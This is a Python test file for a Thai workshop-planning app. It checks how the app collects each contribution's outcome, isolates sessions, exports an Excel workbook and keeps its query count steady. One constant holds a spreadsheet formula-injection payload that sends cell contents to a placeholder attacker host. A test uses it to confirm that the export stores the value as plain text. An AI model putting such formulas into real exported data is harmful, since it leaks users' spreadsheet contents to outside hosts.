"""A workshop session's harvest: every contribution step by step with what became of it, and
its workbook."""

import io
from dataclasses import dataclass
from itertools import groupby

from openpyxl import load_workbook
from sqlmodel import Session

from app.i18n import be_year, thai_today
from app.labels import label
from app.models import WorkshopSession
from app.models.workshops import ContributionKind
from app.services import harvest as harvests
from app.services import plans, votes, workshops
from tests import factories as f
from tests.conftest import QueryCounter

NOT_DECIDED = "ยังไม่ได้ตัดสิน"
ARCHIVED = "เก็บเข้าคลังแล้ว"
CAUSE = "ผู้ปกครองย้ายไปหางานในเมือง"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


@dataclass
class Workshop:
    session: WorkshopSession
    kpi_idea: int
    problem: int
    resource: int
    question: int
    archived: int
    undecided: int
    vision: int
    action: int


def make_harvest_workshop(session: Session, slug: str = "krabi") -> Workshop:
    """A session with one contribution of each fate: a KPI idea accepted as KPI2, a problem in
    the tree, a resource in the inventory, a question, an action idea accepted then deleted
    from the plan, one archived and one not yet decided; two closed votes."""
    plan = f.make_plan(session, slug)
    f.make_kpi(session, plan, "KPI1")
    workshop = f.make_workshop(session, slug, title="เวทีระดมความคิด รอบที่ 1")
    teacher, _ = f.make_guest(session, workshop, "ครูสมศรี")
    parent, _ = f.make_guest(session, workshop, "ผู้ปกครองบ้านคลองม่วง")

    def post(guest, kind: str, text: str, **values: str) -> int:  # noqa: ANN001
        return f.make_contribution(session, workshop, guest, kind, text=text, **values).id

    w = Workshop(
        workshop,
        kpi_idea=post(teacher, "kpi_idea", "ร้อยละนักเรียนที่อ่านหนังสือทุกวัน"),
        problem=post(teacher, "problem", "นักเรียนย้ายโรงเรียนบ่อย", detail=CAUSE),
        resource=post(parent, "resource", "ห้องสมุดชุมชน", dimension="knowledge"),
        question=post(parent, "question", "ใครเก็บข้อมูลการอ่าน?"),
        archived=post(parent, "problem", "ถนนเข้าโรงเรียนเป็นหลุมบ่อ"),
        undecided=post(teacher, "action_idea", "ค่ายภาษาไทยช่วงปิดเทอม"),
        action=post(teacher, "action_idea", "ครูพี่เลี้ยงการอ่าน"),
        vision=post(parent, "vision_phrase", "เด็กกระบี่อ่านออกเขียนได้"),
    )
    # two votes: three dots on the undecided action idea, one choice for the KPI idea
    for vote_in, ballots in (
        (
            {"kind": "action_idea", "dots": "3"},
            ((teacher, w.undecided),) * 2 + ((parent, w.undecided),),
        ),
        ({"kind": "kpi_idea", "mode": "single"}, ((parent, w.kpi_idea),)),
    ):
        vote = votes.open_vote(session, actor=f.ACTOR, workshop=workshop, vote_in=vote_in)
        for guest, contribution_id in ballots:
            votes.cast(
                session,
                workshop=workshop,
                participant=guest,
                vote_id=vote.id,
                contribution_id=contribution_id,
            )
        votes.close_vote(session, actor=f.ACTOR, workshop=workshop, vote_id=vote.id)
    for contribution_id in (w.kpi_idea, w.problem, w.resource, w.question, w.action, w.vision):
        workshops.accept(session, actor=f.ACTOR, workshop=workshop, contribution_id=contribution_id)
    workshops.archive(session, actor=f.ACTOR, workshop=workshop, contribution_id=w.archived)
    workshops.set_group(
        session,
        actor=f.ACTOR,
        workshop=workshop,
        contribution_id=w.problem,
        group_in={"group_label": "ครู"},
    )
    action_id = next(
        c.contribution.accepted_id
        for c in workshops.board_view(session, workshop).cards
        if c.contribution.id == w.action
    )
    plans.delete_element(session, actor=f.ACTOR, plan=plan, kind="actions", element_id=action_id)
    return w


def _items(harvest: harvests.Harvest) -> dict[int, harvests.HarvestItem]:
    return {item.contribution.id: item for item in harvest.items}


def test_every_contribution_is_harvested_step_by_step_with_what_became_of_it(
    session: Session,
) -> None:
    w = make_harvest_workshop(session)
    harvest = harvests.harvest(session, w.session)
    assert [step.kind for step in harvest.steps] == [kind.value for kind in ContributionKind]
    assert harvest.participants == 2 and harvest.total == 8
    items = _items(harvest)
    kpi = items[w.kpi_idea]
    assert kpi.element_code == "KPI2"
    assert kpi.became == "รับเข้าแผนเป็น KPI2: ร้อยละนักเรียนที่อ่านหนังสือทุกวัน"
    assert "แผนผังต้นไม้ปัญหา" in items[w.problem].became
    assert "นักเรียนย้ายโรงเรียนบ่อย" in items[w.problem].became
    assert "บัญชีทุนและทรัพยากร" in items[w.resource].became
    assert "คำถามการเรียนรู้" in items[w.question].became
    assert items[w.action].became == "รับแล้ว แต่องค์ประกอบของแผนที่สร้างจากข้อเสนอนี้ถูกลบไปภายหลัง"
    assert items[w.vision].became == "เสนอให้ผู้แก้ไขแผนพิจารณาคู่กับวิสัยทัศน์"
    assert items[w.archived].became == ARCHIVED
    assert items[w.undecided].became == NOT_DECIDED
    assert items[w.problem].contribution.group_label == "ครู" and items[w.problem].detail == CAUSE
    assert items[w.resource].contribution.dimension == "knowledge"
    assert {i.contribution.id: i.votes for i in harvest.items if i.votes} == {
        w.undecided: 3,
        w.kpi_idea: 1,
    }
    problems = next(step for step in harvest.steps if step.kind == "problem")
    # oldest first, the archived one in its place
    assert [i.contribution.id for i in problems.items] == [w.problem, w.archived]
    assert problems.counts == {"accepted": 1, "archived": 1}
    assert harvest.counts == {"accepted": 6, "archived": 1, "new": 1}
    assert harvest.items[0].time.utcoffset().total_seconds() == 7 * 3600  # Thai wall clock


def test_another_sessions_contributions_never_appear(session: Session) -> None:
    w = make_harvest_workshop(session)
    later = f.make_workshop(session, title="รอบที่ 2")
    guest, _ = f.make_guest(session, later, "ครูต่างรอบ")
    f.make_contribution(session, later, guest, text="ข้อเสนอของอีกรอบหนึ่ง")
    elsewhere = f.make_workshop(session, "phuket")
    stranger, _ = f.make_guest(session, elsewhere, "ครูภูเก็ต")
    f.make_contribution(session, elsewhere, stranger, text="ปัญหาของภูเก็ต")
    texts = {i.contribution.text for i in harvests.harvest(session, w.session).items}
    assert len(texts) == 8
    assert not {"ข้อเสนอของอีกรอบหนึ่ง", "ปัญหาของภูเก็ต"} & texts
    assert [i.contribution.text for i in harvests.harvest(session, later).items] == [
        "ข้อเสนอของอีกรอบหนึ่ง"
    ]


def test_the_workbook_has_a_row_per_contribution_and_a_summary(session: Session) -> None:
    w = make_harvest_workshop(session)
    guest, _ = f.make_guest(session, w.session, "แขก")
    f.make_contribution(session, w.session, guest, "question", text=INJECTION)
    book = load_workbook(io.BytesIO(harvests.workbook(harvests.harvest(session, w.session))))
    sheet, summary = book.worksheets
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["ขั้นตอน", "ลำดับ", "ข้อความ"]
    rows = [dict(zip(header, [c.value for c in row], strict=True)) for row in sheet.iter_rows(2)]
    assert len(rows) == 9
    posted = {"problem", "kpi_idea", "action_idea", "resource", "question", "vision_phrase"}
    steps = [label("contribution_kind", k) for k in ContributionKind if k in posted]
    assert [step for step, _ in groupby(r["ขั้นตอน"] for r in rows)] == steps  # step by step
    kpi = next(r for r in rows if r["ข้อความ"] == "ร้อยละนักเรียนที่อ่านหนังสือทุกวัน")
    assert "KPI2" in kpi["สิ่งที่เกิดขึ้นต่อมา"] and kpi["ผู้เสนอ"] == "ครูสมศรี"
    assert kpi["จุดโหวต"] == 1
    moving = next(r for r in rows if r["ข้อความ"] == "นักเรียนย้ายโรงเรียนบ่อย")
    assert moving["รายละเอียด"] == CAUSE and moving["กลุ่ม"] == "ครู"
    assert f" {be_year(thai_today().year)} " in kpi["เวลาที่เสนอ"]  # Buddhist Era, Thai time
    hostile = next(row for row in sheet.iter_rows(2) if row[2].value == INJECTION)
    assert hostile[2].data_type == "s" and hostile[2].quotePrefix  # shown, never run
    facts = {row[0].value: row[1].value for row in summary.iter_rows(max_row=7)}
    assert facts["รอบประชุมเชิงปฏิบัติการ"] == "เวทีระดมความคิด รอบที่ 1"
    assert facts["ผู้เข้าร่วม"] == 3 and facts["ข้อเสนอ"] == 9
    table = [[c.value for c in row] for row in summary.iter_rows(9)]
    assert table[0] == ["ขั้นตอน", "ใหม่", "รับแล้ว", "เก็บเข้าคลังแล้ว", "รวม"]
    assert table[-1][1:] == [2, 6, 1, 9]


def test_the_harvest_reads_in_the_same_queries_however_many_contributions(
    session: Session, count_all_queries: QueryCounter
) -> None:
    w = make_harvest_workshop(session)
    session.expire_all()
    count_all_queries.count = 0
    small = harvests.harvest(session, w.session)
    harvests.workbook(small)
    few = count_all_queries.count
    for n in range(6):
        guest, _ = f.make_guest(session, w.session, f"โต๊ะ {n}")
        for kind in ("kpi_idea", "problem", "question"):
            row = f.make_contribution(session, w.session, guest, kind, text=f"ข้อ {kind} {n}")
            workshops.accept(session, actor=f.ACTOR, workshop=w.session, contribution_id=row.id)
    session.expire_all()
    count_all_queries.count = 0
    large = harvests.harvest(session, w.session)
    harvests.workbook(large)
    assert large.total == small.total + 18
    assert count_all_queries.count == few
